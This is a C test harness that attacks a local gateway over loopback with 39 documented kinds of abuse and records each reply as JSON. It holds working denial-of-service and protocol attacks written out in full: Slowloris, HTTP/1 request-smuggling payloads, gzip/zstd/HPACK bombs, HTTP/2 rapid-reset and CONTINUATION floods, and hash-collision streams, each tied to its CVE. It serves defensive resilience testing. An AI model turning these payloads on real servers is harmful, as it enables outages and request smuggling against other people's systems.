/* needs: testlib dep_nghttp2 dep_deflate */
/*
 * Attacks on a gateway, one kind at a time, and what it said to them as one line of JSON.
 *
 *   attack KIND --port P [--from ADDRESS] [--seconds S] [--connections C] [--connects N] [--blocks B] [FILE…]
 *   attack --list                       every kind: what it does, where it is described, what should happen
 *
 * To loopback only, from 127.0.0.1 or another address of it, so that whom it attacks can tell it from others.
 * Ends after S seconds (default 2); C connections at once (default 20), each opened again
 * when the server ends it, N times altogether at most (default 20000), B blocks on each (default: no end).
 * One thread, as fast as the sockets take it unless a kind has a pace. Frames are made by hand
 * (tests/lib/attack_wire.h): no library sends these.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <libdeflate.h>
#include <netinet/tcp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/epoll.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "tests/lib/attack_collide.h"
#include "tests/lib/attack_heard.h"
#include "tests/lib/attack_profile.h"
#include "tests/lib/attack_wire.h"

#define CONNECTIONS_MAX 4096u
#define SECONDS_MAX     3600.0
#define BLOCK_BYTES     (32u << 10) /* a fast kind queues at least so much before it asks the socket again */
#define WINDOW          65535u      /* HTTP/2's initial window, RFC 9113 §6.9.2 */
#define BOMB_BYTES      (256u << 20)
#define STREAMS         90u /* at once: below the 100 that servers commonly allow */

struct peer {
    int fd; /* -1: to be opened at `due` */
    struct wire out;
    struct heard heard;
    uint32_t stream, index; /* the next stream's number; which of the kind's shapes */
    uint64_t blocks, due;   /* due: when the next block of a paced kind goes */
    uint64_t sent_blocks;
    bool finished; /* nothing more to send: what is open is held */
};

enum {
    H2 = 1,      /* begins with the preface */
    DEAF = 2,    /* never reads */
    LEAVES = 4,  /* resets the connection when all was sent, and comes again */
    QUIET = 8,   /* sends nothing by itself: `more` is not called */
    STARVED = 16 /* HTTP/2: says that it has no window */
};

struct kind {
    const char *name, *what, *source, *expect;
    void (*open)(struct peer *p);
    bool (*more)(struct peer *p); /* queues a block; false: that was all */
    uint32_t pace_ms;             /* between blocks; 0: as fast as it goes */
    unsigned flags;
    void (*bomb)(struct wire *w, size_t plain_n); /* what `more` sends is made by this */
};

static struct {
    const struct kind *kind;
    int port, epoll;
    struct in_addr from;
    double seconds;
    uint32_t n_peers;
    uint64_t connects_max, blocks_max;
    struct peer *peers;
    struct wire *files; /* of the kinds that send them; also a bomb, made once */
    uint32_t n_files;
    struct heard_counts counts;
    uint64_t connects, failed, closed, broken, blocks, sent, next_file;
} run = {.seconds = 2, .n_peers = 20, .connects_max = 20000, .blocks_max = UINT64_MAX};

static void die(const char *what)
{
    fprintf(stderr, "attack: %s: %s\n", what, strerror(errno));
    exit(1);
}

static uint64_t now_ms(void)
{
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return (uint64_t)t.tv_sec * 1000u + (uint64_t)t.tv_nsec / 1000000u;
}

/* ---- HTTP/1 ---- */

#define POST_HEAD "POST " WIRE_PATH " HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-protobuf\r\n"

static void open_line(struct peer *p)
{
    wire_text(&p->out, "POST " WIRE_PATH " HTTP/1.1\r\nHost: x\r\n");
}

static bool more_small_field(struct peer *p)
{
    wire_format(&p->out, "X-%llu: b\r\n", (unsigned long long)p->blocks);
    return true;
}

static bool more_large_field(struct peer *p)
{
    wire_text(&p->out, "X-Large: ");
    wire_fill(&p->out, 'a', 16000);
    wire_text(&p->out, "\r\n");
    return true;
}

static void open_long_body(struct peer *p)
{
    wire_text(&p->out, POST_HEAD "Content-Length: 1000000\r\n\r\n");
}

static bool more_byte(struct peer *p)
{
    wire_text(&p->out, "\n");
    return true;
}

static bool more_pipelined(struct peer *p)
{
    wire_text(&p->out, POST_HEAD "Content-Length: 0\r\n\r\n");
    return true;
}

/* Each answer is a refusal with a body, so that there is much to buffer for who never reads. */
static bool more_refused(struct peer *p)
{
    wire_text(&p->out, POST_HEAD "Content-Length: 3\r\n\r\n\xff\xff\xff");
    return true;
}

static void open_chunked(struct peer *p)
{
    wire_text(&p->out, POST_HEAD "Transfer-Encoding: chunked\r\n\r\n");
}

static bool more_tiny_chunks(struct peer *p)
{
    if (p->blocks == 65535) {
        wire_text(&p->out, "0\r\n\r\n");
        return true;
    }
    if (p->blocks > 65535) { /* and again */
        open_chunked(p);
        p->blocks = 0;
    }
    wire_text(&p->out, "1\r\n\x0a\r\n");
    return true;
}

static bool more_extension(struct peer *p)
{
    wire_text(&p->out, "1;a=\"");
    wire_fill(&p->out, 'e', 15000);
    wire_text(&p->out, "\"\r\na\r\n");
    return true;
}

static void open_trailers(struct peer *p)
{
    open_chunked(p);
    wire_text(&p->out, "0\r\n");
}

/* Two readers of one connection must never see two different sequences of requests: each of these has to be
 * refused, or read in the one way there is, before the request hidden behind it is. RFC 9112 §6.3, §11.2. */
static const char *const shapes[] = {
    POST_HEAD "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n",
    POST_HEAD "Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
    POST_HEAD "Content-Length: 0, 44\r\n\r\n",
    POST_HEAD "Content-Length: +0\r\n\r\n",
    POST_HEAD "Content-Length: 0x0\r\n\r\n",
    POST_HEAD "Content-Length: -1\r\n\r\n",
    POST_HEAD "Content-Length: 18446744073709551616\r\n\r\n",
    POST_HEAD "Content-Length : 0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding:\x0b"
              "chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "X: y\r\n Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "X: y\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "X: y\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\n\r\n10000000000000000\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\n\r\n1;\nx\r\na\r\n0\r\n\r\n",
    POST_HEAD "Transfer-Encoding: chunked\r\n\r\n1\r\nab\r\n0\r\n\r\n",
    "POST " WIRE_PATH " HTTP/1.1\r\nHost: x\r\nHost: y\r\nContent-Length: 0\r\n\r\n",
    "POST " WIRE_PATH " HTTP/1.1\r\nContent-Length: 0\r\n\r\n",
    "POST " WIRE_PATH " HTTP/1.1\nHost: x\nContent-Length: 0\n\n",
    "POST  " WIRE_PATH " HTTP/1.1\r\nHost: x\r\nContent-Length: 0\r\n\r\n",
    "POST " WIRE_PATH " HTTP/1.9\r\nHost: x\r\nTransfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n",
    "POST " WIRE_PATH " HTTP/1.0\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    POST_HEAD "X\001Y: z\r\nContent-Length: 0\r\n\r\n",
};

static void open_smuggled(struct peer *p)
{
    wire_text(&p->out, shapes[p->index++ % (sizeof shapes / sizeof *shapes)]);
    wire_text(&p->out, "GET /smuggled HTTP/1.1\r\nHost: x\r\n\r\n");
}

static void open_tls(struct peer *p)
{
    static const uint8_t hello[] = {0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3};
    wire_put(&p->out, hello, sizeof hello);
    for (uint32_t i = 0; i < 600; i++)
        wire_put(&p->out, &(uint8_t){(uint8_t)(i * 197 + p->index)}, 1);
    p->index++;
}

/* ---- bombs and files ---- */

static void add_bomb_head(struct wire *w, const char *coding, size_t n)
{
    wire_format(w, POST_HEAD "Content-Encoding: %s\r\nContent-Length: %zu\r\n\r\n", coding, n);
}

static void make_gzip(struct wire *w, size_t plain_n)
{
    uint8_t *plain = calloc(1, plain_n), *packed = malloc(plain_n / 100 + 1000);
    struct libdeflate_compressor *c = libdeflate_alloc_compressor(6);
    if (!plain || !packed || !c)
        die("memory");
    size_t n = libdeflate_gzip_compress(c, plain, plain_n, packed, plain_n / 100 + 1000);
    add_bomb_head(w, "gzip", n);
    wire_put(w, packed, n);
    libdeflate_free_compressor(c);
    free(plain);
    free(packed);
}

/* RFC 8878 §3.1.1: a frame without size of blocks that repeat one byte 128 KiB times, four bytes each. */
static void make_zstd(struct wire *w, size_t plain_n)
{
    static const uint8_t head[] = {0x28, 0xb5, 0x2f, 0xfd, 0x00, 0x58}; /* window: 2 MiB */
    const uint32_t block = 128u << 10;
    struct wire body = {0};
    wire_put(&body, head, sizeof head);
    for (size_t at = 0; at < plain_n; at += block) {
        uint32_t h = (at + block >= plain_n) | 1u << 1 | block << 3;
        uint8_t bytes[4] = {(uint8_t)h, (uint8_t)(h >> 8), (uint8_t)(h >> 16), 0};
        wire_put(&body, bytes, sizeof bytes);
    }
    add_bomb_head(w, "zstd", body.n);
    wire_put(w, body.p, body.n);
    wire_release(&body);
}

/* Once, before the clock runs. */
static void prepare_bomb(void (*make)(struct wire *w, size_t plain_n))
{
    run.files = calloc(1, sizeof *run.files);
    if (!run.files)
        die("memory");
    run.n_files = 1;
    make(run.files, BOMB_BYTES);
}

static bool more_bomb(struct peer *p)
{
    wire_put(&p->out, run.files->p, run.files->n);
    return true;
}

static void make_colliding(struct wire *w, size_t plain_n)
{
    (void)plain_n;
    struct wire body = {0};
    attack_profile_colliding(&body);
    wire_format(w, POST_HEAD "Content-Length: %zu\r\n\r\n", body.n);
    wire_put(w, body.p, body.n);
    wire_release(&body);
}

/* One file a time on one connection: the next when the answer is there is not waited for, but the socket
 * is. */
static bool more_file(struct peer *p)
{
    const struct wire *f = &run.files[run.next_file++ % run.n_files];
    wire_format(&p->out, POST_HEAD "Content-Length: %zu\r\n\r\n", f->n);
    wire_put(&p->out, f->p, f->n);
    return true;
}

/* ---- HTTP/2 ---- */

static uint32_t next_stream(struct peer *p)
{
    p->stream += 2;
    return p->stream - 2;
}

/* Streams that nghttp2's map puts into one place, and a byte for each of them in turn: every frame walks by
 * all that are open. */
static void open_h2_colliding(struct peer *p)
{
    uint32_t stream[STREAMS];
    collide_streams(stream, STREAMS);
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_grpc_head(&p->out, stream[i], WIRE_END_HEADERS);
}

static bool more_h2_colliding(struct peer *p)
{
    static const uint8_t start[] = {0, 0, 1, 0, 0};
    static uint32_t stream[STREAMS];
    if (stream[0] == 0)
        collide_streams(stream, STREAMS);
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_frame(&p->out, WIRE_DATA, 0, stream[i],
                   p->blocks < 5 ? &start[p->blocks] : (const uint8_t *)"\n", 1);
    return true;
}

static void open_h2_head(struct peer *p)
{
    wire_grpc_head(&p->out, next_stream(p), 0);
}

static bool more_continuation(struct peer *p)
{
    struct wire field = {0};
    wire_field(&field, "x-small", "b");
    wire_frame(&p->out, WIRE_CONTINUATION, 0, p->stream - 2, field.p, field.n);
    wire_release(&field);
    return true;
}

static bool more_empty_continuation(struct peer *p)
{
    wire_frame(&p->out, WIRE_CONTINUATION, 0, p->stream - 2, NULL, 0);
    return true;
}

static void open_h2_streams(struct peer *p)
{
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_grpc_head(&p->out, next_stream(p), WIRE_END_HEADERS);
}

/* One byte of each stream's gRPC prefix and message, in turn. */
static bool more_h2_bytes(struct peer *p)
{
    static const uint8_t start[] = {0, 0, 1, 0, 0};
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_frame(&p->out, WIRE_DATA, 0, 1 + 2 * i,
                   p->blocks < 5 ? &start[p->blocks] : (const uint8_t *)"\n", 1);
    return true;
}

/* Refusals whose bodies there is no window for. */
static void open_h2_refused(struct peer *p)
{
    for (uint32_t i = 0; i < STREAMS; i++) {
        uint32_t stream = next_stream(p);
        wire_http_head(&p->out, stream, WIRE_END_HEADERS);
        wire_frame(&p->out, WIRE_DATA, WIRE_END_STREAM, stream, "\xff\xff\xff", 3);
    }
}

static bool more_window_byte(struct peer *p)
{
    for (uint32_t i = 0; i < STREAMS; i++)
        wire_frame32(&p->out, WIRE_WINDOW_UPDATE, 1 + 2 * i, 1);
    return true;
}

static bool more_window_updates(struct peer *p)
{
    wire_frame32(&p->out, WIRE_WINDOW_UPDATE, 0, 1);
    return true;
}

static bool more_rapid_reset(struct peer *p)
{
    uint32_t stream = next_stream(p);
    wire_grpc_head(&p->out, stream, WIRE_END_HEADERS);
    wire_frame32(&p->out, WIRE_RST_STREAM, stream, 8);
    return true;
}

static bool more_made_you_reset(struct peer *p)
{
    uint32_t stream = next_stream(p);
    wire_grpc_head(&p->out, stream, WIRE_END_HEADERS);
    wire_frame32(&p->out, WIRE_WINDOW_UPDATE, stream, 0); /* RFC 9113 §6.9: the server must reset it */
    return true;
}

/* A request that is malformed (RFC 9113 §8.1.1): the server resets each. */
static bool more_malformed(struct peer *p)
{
    struct wire block = {0};
    wire_field(&block, "Upper", "case");
    wire_frame(&p->out, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM, next_stream(p), block.p, block.n);
    wire_release(&block);
    return true;
}

/* A field of 4000 bytes put into HPACK's table once and referred to by one byte each time. */
static bool more_hpack_bomb(struct peer *p)
{
    struct wire block = {0};
    if (p->blocks == 0) {
        static const uint8_t add[] = {0x40, 1, 'x', 0x7f, 0xa1, 0x1e}; /* literal with indexing; 127 + 3873 */
        wire_put(&block, add, sizeof add);
        wire_fill(&block, 'a', 4000);
    }
    wire_fill(&block, 0x80 | 62, 12000); /* RFC 7541 §2.3.3: the first entry of the dynamic table */
    wire_frame(&p->out, WIRE_HEADERS, WIRE_END_HEADERS | WIRE_END_STREAM, next_stream(p), block.p, block.n);
    wire_release(&block);
    return true;
}

static bool more_settings(struct peer *p)
{
    static const uint8_t setting[6] = {0, 4, 0, 1, 0, 0};
    wire_frame(&p->out, WIRE_SETTINGS, 0, 0, setting, sizeof setting);
    return true;
}

static bool more_ping(struct peer *p)
{
    wire_frame(&p->out, WIRE_PING, 0, 0, "12345678", 8);
    return true;
}

static bool more_empty_data(struct peer *p)
{
    wire_frame(&p->out, WIRE_DATA, 0, p->stream - 2, NULL, 0);
    return true;
}

static void open_h2_one(struct peer *p)
{
    wire_grpc_head(&p->out, next_stream(p), WIRE_END_HEADERS);
}

static bool more_priority(struct peer *p)
{
    uint8_t payload[5] = {0, 0, 0, (uint8_t)(p->blocks % 2 ? 3 : 5), (uint8_t)p->blocks};
    wire_frame(&p->out, WIRE_PRIORITY, 0, 1 + 2 * (uint32_t)(p->blocks % 1000 + 10), payload, sizeof payload);
    return true;
}

static bool more_unknown_frames(struct peer *p)
{
    static const uint8_t nothing[16000];
    wire_frame(&p->out, (enum wire_frame)0x42, 0, 0, nothing, p->blocks % 2 ? sizeof nothing : 0);
    return true;
}

/* A request of gRPC that announces 64 MiB and never sends it: memory must follow what comes, not what is
 * said. */
static void open_h2_announced(struct peer *p)
{
    static const uint8_t prefix[] = {0, 3, 0xff, 0xff, 0xff};
    for (uint32_t i = 0; i < STREAMS; i++) {
        uint32_t stream = next_stream(p);
        wire_grpc_head(&p->out, stream, WIRE_END_HEADERS);
        wire_frame(&p->out, WIRE_DATA, 0, stream, prefix, sizeof prefix);
    }
}

/* ---- the table ---- */

#define OPEN_10S "held; 408 or closed after 10 s without a whole head"
#define CALM     "GOAWAY ENHANCE_YOUR_CALM or PROTOCOL_ERROR, closed"

/* clang-format off */
static const struct kind kinds[] = {
    {"idle", "connects and says nothing", "half-open connections", "held for the idle time", NULL, NULL, 0, QUIET},
    {"connect", "connects and resets, again and again", "connection flood", "accepted and forgotten", NULL, NULL, 0, QUIET | LEAVES},
    {"slow-head", "a field of a head each 100 ms", "Slowloris, CVE-2007-6750", OPEN_10S, open_line, more_small_field, 100, 0},
    {"slow-body", "a byte of 1 MB each 100 ms", "R.U.D.Y., CVE-2007-6750", "held; 408 and closed after request_ns", open_long_body, more_byte, 100, 0},
    {"large-head", "a head that never ends, 16 KB fields", "RFC 9110 §5.4, RFC 6585 §5", "431 and closed", open_line, more_large_field, 0, 0},
    {"many-fields", "a head that never ends, 8-byte fields", "RFC 6585 §5", "431 and closed", open_line, more_small_field, 0, 0},
    {"pipeline", "empty requests without waiting", "RFC 9112 §9.3.2", "200 each, in order, at the reader's pace", NULL, more_pipelined, 0, 0},
    {"stalled-reader", "refused requests whose answers nobody reads", "sockstress, CVE-2008-4609", "reading stops, closed after 30 s", NULL, more_refused, 0, DEAF},
    {"refused", "requests of three bad bytes", "logging and wording of refusals", "400 each", NULL, more_refused, 0, 0},
    {"tiny-chunks", "65535 chunks of one byte, again", "RFC 9112 §7.1", "200 or 400 each", open_chunked, more_tiny_chunks, 0, 0},
    {"chunk-extensions", "chunks of one byte with 15 KB extensions", "CVE-2023-39326", "400 and closed", open_chunked, more_extension, 0, 0},
    {"trailers", "a trailer section that never ends", "RFC 9112 §7.1.2", "431 or 400, closed", open_trailers, more_large_field, 0, 0},
    {"smuggling", "29 shapes two readers read differently", "RFC 9112 §11.2, CVE-2019-16276 and kin", "400 and closed; never an answer to /smuggled", open_smuggled, NULL, 0, 0},
    {"tls-garbage", "a ClientHello of random bytes to a plain port", "RFC 8446 §5.1", "closed", open_tls, NULL, 0, 0},
    {"gzip-bomb", "256 MiB of zeros in 256 KB of gzip", "decompression bomb, CVE-2003-1564 and kin", "413", NULL, more_bomb, 0, 0, make_gzip},
    {"zstd-bomb", "256 MiB of zeros in 8 KB of zstd", "RFC 8878 §7", "413", NULL, more_bomb, 0, 0, make_zstd},
    {"h2-slow-head", "a header block, a CONTINUATION each 100 ms", "RFC 9113 §10.5", "GOAWAY after 10 s or 32 continuations", open_h2_head, more_continuation, 100, H2},
    {"h2-slow-body", "90 streams, a byte on each every 100 ms", "CVE-2019-9511", "held; reset after request_ns", open_h2_streams, more_h2_bytes, 100, H2},
    {"h2-slow-window", "90 answers, a byte of window each 100 ms", "CVE-2019-9511 (Data Dribble), CVE-2019-9517", "held, then reset", open_h2_refused, more_window_byte, 100, H2 | STARVED},
    {"h2-no-window", "90 answers, and never a window", "CVE-2016-1546", "held, then reset", open_h2_refused, NULL, 0, H2 | STARVED},
    {"h2-announced", "90 messages of 64 MiB announced, none sent", "gRPC PROTOCOL-HTTP2", "held; memory follows what comes", open_h2_announced, NULL, 0, H2},
    {"h2-idle", "connects, preface, nothing more", "half-open connections", "held for the idle time", NULL, NULL, 0, H2 | QUIET},
    {"rapid-reset", "requests that are reset at once", "CVE-2023-44487", CALM, NULL, more_rapid_reset, 0, H2},
    {"made-you-reset", "requests that make the server reset them", "CVE-2025-8671", CALM, NULL, more_made_you_reset, 0, H2},
    {"malformed", "malformed requests, each to be reset", "CVE-2019-9514 (Reset Flood)", CALM, NULL, more_malformed, 0, H2},
    {"continuation", "a header block that never ends", "CVE-2024-27316, CVE-2023-45288", CALM, open_h2_head, more_continuation, 0, H2},
    {"empty-continuation", "CONTINUATION frames of no bytes", "CVE-2024-27316, CVE-2019-9516", CALM, open_h2_head, more_empty_continuation, 0, H2},
    {"hpack-bomb", "12000 references to a field of 4000 bytes", "CVE-2016-6581, RFC 7541 §7.3", CALM, NULL, more_hpack_bomb, 0, H2},
    {"settings", "SETTINGS frames", "CVE-2019-9515", "acknowledged while read; else closed", NULL, more_settings, 0, H2},
    {"settings-deaf", "SETTINGS frames, acknowledgements unread", "CVE-2019-9515", "closed", NULL, more_settings, 0, H2 | DEAF},
    {"ping", "PING frames", "CVE-2019-9512", "acknowledged while read; else closed", NULL, more_ping, 0, H2},
    {"ping-deaf", "PING frames, acknowledgements unread", "CVE-2019-9512", "closed", NULL, more_ping, 0, H2 | DEAF},
    {"empty-data", "DATA frames of no bytes", "CVE-2019-9518", CALM, open_h2_one, more_empty_data, 0, H2},
    {"priority", "PRIORITY frames for streams that are not there", "CVE-2019-9513 (Resource Loop)", "ignored or closed", NULL, more_priority, 0, H2},
    {"window-updates", "WINDOW_UPDATE frames of the connection", "RFC 9113 §10.5", "ignored or closed", NULL, more_window_updates, 0, H2},
    {"unknown-frames", "frames of a type nobody knows", "RFC 9113 §5.5, §10.5", "ignored or closed", NULL, more_unknown_frames, 0, H2},
    {"colliding-streams", "90 streams in one place of nghttp2's table, bytes for each", "hash flooding, CVE-2011-4815 and kin", "held, or reset when a message's 64 KiB are there", open_h2_colliding, more_h2_colliding, 0, H2},
    {"colliding-names", "12288 names that share a hash unless it is keyed well", "hash flooding, CVE-2011-4815 and kin", "200 each", NULL, more_bomb, 0, 0, make_colliding},
    {"files", "the files named, by HTTP/1, without waiting", "hostile content: tests/lib/attack_content.py", "200, 400 or 413, 503 each", NULL, more_file, 0, 0},
};
/* clang-format on */

#define N_KINDS (sizeof kinds / sizeof *kinds)

/* ---- moving bytes ---- */

static void watch(struct peer *p, int operation)
{
    unsigned events = run.kind->flags & DEAF ? 0 : EPOLLIN;
    if (p->out.at < p->out.n || run.kind->flags & LEAVES || (!p->finished && run.kind->pace_ms == 0))
        events |= EPOLLOUT;
    struct epoll_event event = {.events = events, .data.ptr = p};
    epoll_ctl(run.epoll, operation, p->fd, &event);
}

static void hang_up(struct peer *p)
{
    struct linger reset = {1, 0}; /* no TIME_WAIT: ports of the attacker's are not to run out */
    setsockopt(p->fd, SOL_SOCKET, SO_LINGER, &reset, sizeof reset);
    close(p->fd);
    heard_end(&p->heard);
    p->fd = -1;
    p->due = now_ms();
}

static void dial(struct peer *p)
{
    const struct kind *k = run.kind;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)run.port)};
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    p->due = UINT64_MAX;
    if (run.connects == run.connects_max)
        return;
    run.connects++;
    p->fd = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (p->fd < 0)
        die("socket");
    int on = 1;
    setsockopt(p->fd, IPPROTO_TCP, TCP_NODELAY, &on, sizeof on);
    struct sockaddr_in from = {.sin_family = AF_INET, .sin_addr = run.from};
    /* The port is chosen when it connects: bound ones would soon be used up. */
    setsockopt(p->fd, IPPROTO_IP, IP_BIND_ADDRESS_NO_PORT, &on, sizeof on);
    if (bind(p->fd, (struct sockaddr *)&from, sizeof from) < 0)
        die("bind");
    if (connect(p->fd, (struct sockaddr *)&to, sizeof to) < 0 && errno != EINPROGRESS) {
        run.failed++;
        close(p->fd);
        p->fd = -1;
        p->due = now_ms() + 10;
        return;
    }
    p->out.n = p->out.at = 0;
    p->stream = 1;
    p->blocks = p->sent_blocks = 0;
    p->finished = !k->more || k->flags & QUIET;
    heard_begin(&p->heard, k->flags & H2);
    if (k->flags & H2)
        wire_preface(&p->out, k->flags & STARVED ? 0 : WINDOW);
    if (k->open)
        k->open(p);
    p->due = k->pace_ms > 0 && !p->finished ? now_ms() : UINT64_MAX;
    watch(p, EPOLL_CTL_ADD);
}

/* false: the connection is over. */
static bool listen_to(struct peer *p)
{
    uint8_t in[65536];
    for (;;) {
        ssize_t n = recv(p->fd, in, sizeof in, 0);
        if (n < 0 && errno == EAGAIN)
            return true;
        if (n <= 0) {
            run.closed += n == 0;
            run.broken += n < 0;
            return false;
        }
        heard_feed(&p->heard, &run.counts, in, (size_t)n);
        if (n < (ssize_t)sizeof in)
            return true;
    }
}

static void queue_block(struct peer *p)
{
    p->finished = !run.kind->more(p) || ++p->sent_blocks >= run.blocks_max;
    p->blocks++;
    run.blocks++;
}

/* false: the connection is over. */
static bool say(struct peer *p)
{
    struct wire *w = &p->out;
    while (run.kind->pace_ms == 0 && !p->finished && w->n - w->at < BLOCK_BYTES)
        queue_block(p);
    while (w->at < w->n) {
        ssize_t n = send(p->fd, w->p + w->at, w->n - w->at, MSG_NOSIGNAL);
        if (n < 0 && errno == EAGAIN)
            return true;
        if (n < 0)
            return false;
        w->at += (size_t)n;
        run.sent += (uint64_t)n;
    }
    return !(run.kind->flags & LEAVES);
}

static void turn(struct peer *p, unsigned events)
{
    bool open = true;
    if (events & (EPOLLIN | EPOLLHUP | EPOLLERR))
        open = listen_to(p); /* also of a deaf one: only how it ended */
    if (open && !say(p)) {
        if (!(run.kind->flags & LEAVES)) {
            listen_to(p); /* its last words */
            run.broken++;
        }
        open = false;
    }
    if (open)
        watch(p, EPOLL_CTL_MOD);
    else
        hang_up(p);
}

/* What is due by time: blocks of a pace, and connections to be opened again. Returns how long to wait. */
static int turn_due(uint64_t now)
{
    uint64_t next = now + 100;
    for (uint32_t i = 0; i < run.n_peers; i++) {
        struct peer *p = &run.peers[i];
        if (p->due <= now && p->fd < 0) {
            dial(p);
        } else if (p->due <= now) {
            queue_block(p);
            p->due = now + run.kind->pace_ms;
            turn(p, 0);
        }
        if (p->due < next)
            next = p->due;
    }
    return next > now ? (int)(next - now) : 0;
}

static void attack(void)
{
    uint64_t end = now_ms() + (uint64_t)(run.seconds * 1000);
    for (uint64_t now = now_ms(); now < end; now = now_ms()) {
        int wait = turn_due(now);
        struct epoll_event ready[64];
        int n = epoll_wait(run.epoll, ready, 64, wait);
        for (int i = 0; i < n; i++)
            turn(ready[i].data.ptr, ready[i].events);
    }
    for (uint32_t i = 0; i < run.n_peers; i++)
        if (run.peers[i].fd >= 0) {
            if (!(run.kind->flags & DEAF))
                listen_to(&run.peers[i]);
            hang_up(&run.peers[i]);
        }
}

/* ---- the program ---- */

static void load_files(char **paths, int n)
{
    run.files = calloc((size_t)n, sizeof *run.files);
    if (!run.files)
        die("memory");
    for (int i = 0; i < n; i++) {
        FILE *f = fopen(paths[i], "rb");
        if (!f)
            die(paths[i]);
        static char piece[65536];
        for (size_t got; (got = fread(piece, 1, sizeof piece, f)) > 0;)
            wire_put(&run.files[i], piece, got);
        fclose(f);
    }
    run.n_files = (uint32_t)n;
}

static void list_kinds(void)
{
    for (size_t i = 0; i < N_KINDS; i++)
        printf("%s\t%s\t%s\t%s\n", kinds[i].name, kinds[i].what, kinds[i].source, kinds[i].expect);
}

static int parse_arguments(int argc, char **argv)
{
    int i = 2;
    for (size_t k = 0; argc > 1 && k < N_KINDS; k++)
        if (strcmp(argv[1], kinds[k].name) == 0)
            run.kind = &kinds[k];
    run.from.s_addr = htonl(INADDR_LOOPBACK);
    for (; i + 1 < argc && strncmp(argv[i], "--", 2) == 0; i += 2) {
        if (strcmp(argv[i], "--port") == 0)
            run.port = atoi(argv[i + 1]);
        else if (strcmp(argv[i], "--from") == 0) {
            if (inet_pton(AF_INET, argv[i + 1], &run.from) != 1)
                return 0;
        } else if (strcmp(argv[i], "--seconds") == 0)
            run.seconds = atof(argv[i + 1]);
        else if (strcmp(argv[i], "--connections") == 0)
            run.n_peers = (uint32_t)atoi(argv[i + 1]);
        else if (strcmp(argv[i], "--connects") == 0)
            run.connects_max = strtoull(argv[i + 1], NULL, 10);
        else if (strcmp(argv[i], "--blocks") == 0)
            run.blocks_max = strtoull(argv[i + 1], NULL, 10);
        else
            return 0;
    }
    if (run.kind && run.kind->more == more_file && i >= argc)
        return 0;
    return run.kind && run.port > 0 && run.port < 65536 && run.n_peers > 0 &&
                   run.n_peers <= CONNECTIONS_MAX && run.seconds > 0 && run.seconds <= SECONDS_MAX
               ? i
               : 0;
}

int main(int argc, char **argv)
{
    if (argc == 2 && strcmp(argv[1], "--list") == 0) {
        list_kinds();
        return 0;
    }
    int files = parse_arguments(argc, argv);
    if (files == 0) {
        fprintf(stderr,
                "usage: attack KIND --port P [--from ADDRESS] [--seconds S] [--connections C] [--connects N] "
                "[--blocks B] [FILE...]\n"
                "       attack --list\n");
        return 2;
    }
    if (files < argc)
        load_files(argv + files, argc - files);
    if (run.kind->bomb)
        prepare_bomb(run.kind->bomb);
    run.peers = calloc(run.n_peers, sizeof *run.peers);
    run.epoll = epoll_create1(EPOLL_CLOEXEC);
    if (!run.peers || run.epoll < 0)
        die("memory");
    for (uint32_t i = 0; i < run.n_peers; i++) {
        run.peers[i].fd = -1;
        run.peers[i].index = i;
    }
    attack();
    printf("{\"kind\": \"%s\", \"connects\": %llu, \"failed\": %llu, \"closed\": %llu, \"broken\": %llu, "
           "\"blocks\": %llu, \"bytes_sent\": %llu, ",
           run.kind->name, (unsigned long long)run.connects, (unsigned long long)run.failed,
           (unsigned long long)run.closed, (unsigned long long)run.broken, (unsigned long long)run.blocks,
           (unsigned long long)run.sent);
    heard_print(&run.counts, stdout);
    printf("}\n");
    for (uint32_t i = 0; i < run.n_peers; i++)
        wire_release(&run.peers[i].out);
    for (uint32_t i = 0; i < run.n_files; i++)
        wire_release(&run.files[i]);
    free(run.files);
    free(run.peers);
    return 0;
}
